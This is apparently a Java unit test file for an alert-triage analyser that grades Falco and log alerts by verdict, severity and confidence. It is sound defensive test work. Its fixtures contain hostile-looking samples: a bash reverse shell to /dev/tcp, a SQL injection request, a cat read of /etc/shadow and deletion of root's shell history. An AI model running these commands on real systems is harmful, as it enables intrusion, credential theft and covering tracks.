package io.winnow.analyst.builtin;

import io.winnow.Alerts;
import io.winnow.alert.Alert;
import io.winnow.alert.Entity;
import io.winnow.alert.EntityType;
import io.winnow.alert.Finding;
import io.winnow.attack.AttackCatalog;
import io.winnow.mask.AssetSignals;
import io.winnow.mask.RegexMasker;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Severity, verdict and confidence: known-benign activity, asset signals and how much of the evidence agrees. */
class BuiltinAnalystVerdictTest {
    private static final AttackCatalog CATALOG = AttackCatalog.bundled();
    private final BuiltinAnalyst analyst = new BuiltinAnalyst(CATALOG);
    private final RegexMasker masker = new RegexMasker();

    private Finding analyse(Alert alert) {
        return analyst.analyse(masker.mask(alert).alert());
    }

    private Finding analyse(Alert alert, AssetSignals assets) {
        return analyst.analyse(masker.mask(alert).alert().withAssets(assets));
    }

    private static Alert shadowReadBy(String process, String user) {
        return Alerts.falco("A", "Read sensitive file untrusted", "Sensitive file opened for reading by non-trusted "
                        + "program (file=/etc/shadow process=" + process + " user=" + user + ")", List.of(),
                List.of(new Entity(EntityType.FILE, "/etc/shadow", "fd.name"),
                        new Entity(EntityType.PROCESS, process, "proc.name"),
                        new Entity(EntityType.USER, user, "user.name")));
    }

    @Test
    void aBackupAgentReadingTheShadowFileIsAFalsePositive() {
        Finding f = analyse(shadowReadBy("restic", "backup"));

        assertThat(f.verdict()).isEqualTo("FALSE_POSITIVE");
        assertThat(f.severity()).isEqualTo("LOW");
        assertThat(f.threatCategory()).isEqualTo("benign-activity");
        assertThat(f.reasoning()).contains("benign-backup-agent");
        assertThat(f.summary()).contains("backup agent");
    }

    @Test
    void theSameReadByCatIsATruePositive() {
        Finding f = analyse(shadowReadBy("cat", "root"));

        assertThat(f.verdict()).isEqualTo("TRUE_POSITIVE");
        assertThat(f.techniques().getFirst().id()).isEqualTo("T1003.008");
        assertThat(f.severity()).isEqualTo("HIGH");
    }

    @Test
    void recognisesCiRunnersAndHealthChecks() {
        Finding ci = analyse(Alerts.falco("A", "Run shell untrusted", "Shell spawned (process=sh parent=gitlab-runner)",
                List.of(), List.of(new Entity(EntityType.PROCESS, "sh", "proc.name"),
                        new Entity(EntityType.PARENT_PROCESS, "gitlab-runner", "proc.pname"))));
        Finding probe = analyse(Alerts.raw("B", "10.42.3.1 - - [18/Nov/2025:01:15:12 +0000] \"GET /healthz HTTP/1.1\" "
                + "404 0 \"-\" \"kube-probe/1.31\""));

        assertThat(ci.verdict()).isEqualTo("FALSE_POSITIVE");
        assertThat(ci.reasoning()).contains("benign-ci-runner");
        assertThat(probe.verdict()).isEqualTo("FALSE_POSITIVE");
        assertThat(probe.reasoning()).contains("health check");
    }

    @Test
    void anAllowListedScannerIsABenignPositive() {
        Alert scan = Alerts.raw("A", "GET /index.php?id=1%27%20union%20select%201,2-- HTTP/1.1 \"sqlmap/1.7\"");

        Finding allowed = analyse(scan, new AssetSignals(false, false, false, true));
        Finding unknown = analyse(scan);

        assertThat(allowed.verdict()).isEqualTo("BENIGN_POSITIVE");
        assertThat(allowed.severity()).isEqualTo("LOW");
        assertThat(allowed.reasoning()).contains("analyst.scanner_allowlist");
        assertThat(unknown.verdict()).isEqualTo("TRUE_POSITIVE");
        assertThat(unknown.techniques()).extracting(Finding.Claim::id).contains("T1190");
    }

    @Test
    void productionCrownJewelsAndPrivilegedUsersRaiseSeverityAndSayWhy() {
        Alert alert = Alerts.falco("A", "Shell history deleted", "Shell history deleted or renamed "
                + "(command=rm -f /root/.bash_history)", List.of(), List.of());

        Finding plain = analyse(alert);
        Finding production = analyse(alert, new AssetSignals(true, true, false, false));

        assertThat(plain.severity()).isEqualTo("HIGH");
        assertThat(production.severity()).isEqualTo("CRITICAL");
        assertThat(production.reasoning()).contains("analyst.production_hosts").contains("analyst.crown_jewel_paths");
        assertThat(plain.reasoning()).doesNotContain("analyst.production_hosts");
    }

    @Test
    void aStrongAttackSignalIsNotExplainedAwayByABenignLookalike() {
        Alert alert = Alerts.falco("A", "Unexpected process", "dpkg spawned a reverse shell "
                + "(process=dpkg command=bash -i >& /dev/tcp/203.0.113.9/443 0>&1)", List.of(),
                List.of(new Entity(EntityType.PROCESS, "dpkg", "proc.name"),
                        new Entity(EntityType.COMMAND_LINE, "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "proc.cmdline")));

        Finding f = analyse(alert);

        assertThat(f.verdict()).isNotIn("FALSE_POSITIVE", "BENIGN_POSITIVE");
        assertThat(f.techniques().getFirst().id()).isEqualTo("T1059.004");
    }

    @Test
    void aLoneWeakSignalNeedsInvestigationAndSaysWhy() {
        Finding f = analyse(Alerts.raw("A", "whoami"));

        assertThat(f.techniques().getFirst().id()).isEqualTo("T1033");
        assertThat(f.confidence()).isLessThan(0.7);
        assertThat(f.verdict()).isEqualTo("NEEDS_INVESTIGATION");
        assertThat(f.reasoning()).contains("below 0.70").contains("whoami");
    }

    @Test
    void agreeingSignalsRaiseConfidence() {
        Finding tagged = analyse(Alerts.shadowRead("A"));
        Finding untagged = analyse(shadowReadBy("cat", "root"));

        assertThat(tagged.confidence()).isGreaterThan(untagged.confidence());
        assertThat(tagged.reasoning()).contains("agree on the technique");
    }
}
